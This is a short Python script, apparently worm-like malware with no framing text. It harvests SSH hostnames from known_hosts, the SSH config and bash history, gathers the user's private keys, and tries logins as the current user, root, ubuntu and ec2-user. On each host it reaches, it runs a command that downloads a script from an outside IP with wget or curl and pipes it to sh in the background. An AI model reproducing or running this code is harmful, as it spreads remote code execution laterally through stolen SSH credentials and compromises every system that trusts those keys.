import os
import re
import socket

import paramiko

CMD = "(wget -qO- http://198.51.100.200/n || curl -s http://198.51.100.200/n) | nohup sh >/dev/null 2>&1 &"
SSH = os.path.expanduser("~/.ssh")


def hosts():
    found = set()
    for name, rx in (("known_hosts", r"^([\w.\-]+)[, ]"), ("config", r"HostName\s+(\S+)")):
        try:
            found |= set(re.findall(rx, open(os.path.join(SSH, name)).read(), re.M | re.I))
        except OSError:
            pass
    hist = os.path.expanduser("~/.bash_history")
    if os.path.exists(hist):
        found |= set(re.findall(r"ssh\s+(?:-\S+\s+)*(?:\w+@)?([\w.\-]+)", open(hist, errors="ignore").read()))
    return found


keys = [os.path.join(SSH, f) for f in os.listdir(SSH) if f.startswith("id_") and not f.endswith(".pub")]
for h in hosts():
    for user in {os.getlogin(), "root", "ubuntu", "ec2-user"}:
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(h, username=user, key_filename=keys, timeout=5, allow_agent=True)
            c.exec_command(CMD)
            break
        except (paramiko.SSHException, socket.error):
            continue
        finally:
            c.close()
